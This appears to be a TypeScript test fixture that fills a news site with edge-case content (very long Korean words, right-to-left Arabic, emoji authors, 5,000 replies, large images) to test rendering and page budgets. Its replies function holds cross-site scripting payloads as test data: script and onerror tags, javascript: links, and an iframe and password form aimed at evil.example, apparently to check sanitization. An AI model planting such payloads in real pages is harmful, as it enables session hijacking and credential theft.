import { join } from 'node:path';
import sharp from 'sharp';
import type { Site } from '../end-to-end/site.ts';
import type { Kind } from './kinds.ts';
import type { PaperParts } from './paper.ts';
import { account, converse, react, type Said } from './readers.ts';

/** A paper that holds, all at once, what a newsroom and its readers should never send. */
export const hostileParts: PaperParts = {
  edit: async (site) => {
    await Promise.all([
      ...authors.map(([id, yaml]) => site.write(`src/content/authors/${id}.yaml`, yaml)),
      ...articles().map(([slug, text]) => site.write(`src/content/articles/${slug}.md`, text)),
      drawPicture(site, 'wide.jpg', 3000, 1200),
      drawPicture(site, 'tall.jpg', 1800, 3000),
    ]);
    await site.write(
      'src/content/sections/endless.yaml',
      `title: ${word(60)}\ndescription: ${sentence(300)}\norder: 5\n`,
    );
  },
  fill: async (store) => {
    await converse(store, 'crowded', replies());
    await react(store, 'crowded', 300, 200);
  },
};

/** Its pages. `own` lets a body that is larger than any ordinary one weigh what it weighs. */
export const hostileKinds: Kind[] = [
  { name: 'front', path: '/', budget: 'list' },
  { name: 'section of one endless word', path: '/sections/endless/', budget: 'list' },
  { name: 'author called by emoji', path: '/authors/emoji/', budget: 'list' },
  { name: 'topics', path: '/tags/', budget: 'list' },
  { name: 'second page of all articles', path: '/articles/page/2/', budget: 'list' },
  { name: 'archive', path: '/archive/', budget: 'list' },
  { name: 'headline of 200 characters', path: '/articles/long-headline/', budget: 'article' },
  { name: 'word of 300 characters', path: '/articles/long-word/', budget: 'article' },
  { name: 'no picture, no deck, no topic', path: '/articles/bare/', budget: 'article' },
  { name: 'twelve authors, forty topics', path: '/articles/twelve-authors/', budget: 'article' },
  { name: 'right to left', path: '/articles/right-to-left/', budget: 'article', language: 'ar' },
  { name: 'table of 60 rows', path: '/articles/table/', budget: 'article', ownBody: true },
  { name: 'code of 500 lines', path: '/articles/code/', budget: 'article', ownBody: true },
  { name: 'pictures of 3,000 px', path: '/articles/pictures/', budget: 'article' },
  { name: '5,000 replies', path: '/articles/crowded/', budget: 'article' },
  {
    name: 'last page of 5,000 replies',
    path: '/ap/live/conversation/articles/crowded.html?page=250',
    budget: 'article',
    skipLink: false,
  },
];

const word = (length: number) => '스마트도시통합관제플랫폼'.repeat(length).slice(0, length);
const sentence = (length: number) =>
  '골목마다 다른 시각을 가리키는 시계를 맞추는 일은 생각보다 오래 걸린다 '.repeat(length).slice(0, length).trim();

const numbers = (count: number) => Array.from({ length: count }, (_, index) => index + 1);

const authors: [id: string, yaml: string][] = [
  ['emoji', 'name: "🦉🦉🦉"\nkind: desk\nrole: "🌒"\n'],
  ...numbers(12).map((number): [string, string] => [
    `desk-${number}`,
    `name: ${number % 3 === 0 ? word(40) : `제${number}취재부`}\nkind: desk\nrole: ${sentence(30)}\ncontact: desk-${number}@paper.example\n`,
  ]),
];

interface Draft {
  title: string;
  authors?: string;
  day?: number;
  more?: string;
  body?: string;
}

function articles(): [slug: string, text: string][] {
  const drafts: Record<string, Draft> = {
    'long-headline': { title: sentence(200), day: 20, more: `deck: ${sentence(200)}\nsummary: ${sentence(400)}\n` },
    'long-word': {
      title: word(300),
      day: 20,
      more: `tags: [${word(100)}]\n`,
      body: `${word(300)}\n\n## ${word(300)}\n\n> ${word(300)}\n\n- ${word(300)}`,
    },
    bare: { title: '짧다', day: 19 },
    'twelve-authors': {
      title: '부서 열둘이 함께 쓴 기사',
      day: 19,
      authors: numbers(12)
        .map((number) => `{ id: desk-${number}, role: ${sentence(24)} }`)
        .join(', '),
      more: `tags: [${numbers(40)
        .map((number) => `주제 ${number}`)
        .join(', ')}]\n`,
    },
    'right-to-left': {
      title: 'ساعة واحدة لكل السجلات: قبل أن نسأل من دخل (10.6~7)',
      day: 19,
      authors: 'emoji',
      more: 'language: ar\ndeck: ترتيب الأحداث يبدأ من الساعة\ntags: [표준]\n',
      body: 'قبل التحقيق في أي حادث نرتب السجلات بحسب الوقت. إذا اختلفت الساعات اختلف الترتيب.\n\n- الكاميرا 21:59:31\n- الباب `22:01:09`\n\n> اضبط الساعة أولا.',
    },
    table: { title: '예순 줄 표', day: 18, body: table },
    code: { title: '오백 줄 코드', day: 18, body: code },
    pictures: {
      title: '큰 그림 둘',
      day: 18,
      more: `image:\n  src: ../images/wide.jpg\n  alt: 가로로 긴 색면\n  caption: ${sentence(200)}\n  credit: ${word(80)}\n`,
      body: '![세로로 긴 색면](../images/tall.jpg)\n\n본문이다.\n\n![가로로 긴 색면](../images/wide.jpg)',
    },
    crowded: { title: '답글 오천 개', day: 18 },
    ...Object.fromEntries(
      numbers(60).map((number) => [
        `filler-${number}`,
        { title: `${number}번째 ${sentence(number % 7 === 0 ? 200 : 40)}` },
      ]),
    ),
  };
  return Object.entries(drafts).map(([slug, draft]) => [`${slug}`, toMarkdown(slug, draft)]);
}

function toMarkdown(slug: string, { title, authors = 'emoji', day = 1, more = '', body = '본문이다.' }: Draft): string {
  const published = `2026-11-${String(day).padStart(2, '0')} 09:00`;
  return `---\nid: ${slug}\ntitle: "${title}"\nsection: endless\nauthors: [${authors}]\npublished: ${published}\n${more}---\n\n${body}\n`;
}

const table = [
  `| ${['번호', '장치', '기록된 시각', '차이', '설명', word(20)].join(' | ')} |`,
  '| --: | --- | --- | --: | --- | --- |',
  ...numbers(60).map(
    (number) =>
      `| ${number} | 카메라 ${number} | 21:${String(number % 60).padStart(2, '0')}:31 | ${number}초 | ${sentence(60)} | ${word(20)} |`,
  ),
].join('\n');

const code = [
  '```ts',
  ...numbers(500).map(
    (number) =>
      `const reading${number} = await sensors.read(${number}, { unit: 'mm', within: ${number * 10} }); // ${sentence(40)}`,
  ),
  '```',
].join('\n');

/** What is hostile in them is taken out where they come in; what is left must not break the page. */
function replies(): Said[] {
  const owl = account('owl', '🦉🦉🦉');
  const long = account('long', word(200), 'a-very-long-host-name-that-somebody-really-registered.example');
  const right = account('right', '\u202Eمقلوب', 'sea.example');
  const evil = account('evil', '<img src=x onerror=alert(1)>', 'evil.example');
  const hostile: Said[] = [
    {
      who: evil,
      html: '<script>document.title="taken"</script><img src=x onerror="document.title=\'taken\'"><p onclick="x()">글</p></section></main><style>*{display:none}</style>',
    },
    {
      who: evil,
      html: '<p><a href="javascript:document.title=1">누르세요</a></p><iframe src="https://evil.example/"></iframe><h1>가짜 제목</h1><form action="https://evil.example/"><input name="password"></form>',
    },
    { who: long, html: `<p>${word(300)}</p><p>${'<b>'.repeat(50)}깊다` },
    { who: right, html: '<p>\u202Eمرحبا 123 안녕</p>', language: 'ar' },
    { who: owl, html: '<p>🦉</p>', warning: '🦉'.repeat(60) },
    ...numbers(12).map((depth): Said => ({ who: owl, html: `<p>${depth}단계 아래의 답글</p>`, answers: depth + 3 })),
  ];
  const many = numbers(5000 - hostile.length).map(
    (number): Said => ({ who: owl, html: `<p>${number}번째 답글입니다. ${sentence(80)}</p>` }),
  );
  return [...hostile, ...many];
}

async function drawPicture(site: Site, name: string, width: number, height: number): Promise<void> {
  await sharp({ create: { width, height, channels: 3, background: '#7a8c83' } })
    .jpeg({ quality: 60 })
    .toFile(join(site.folder, 'src/content/images', name));
}
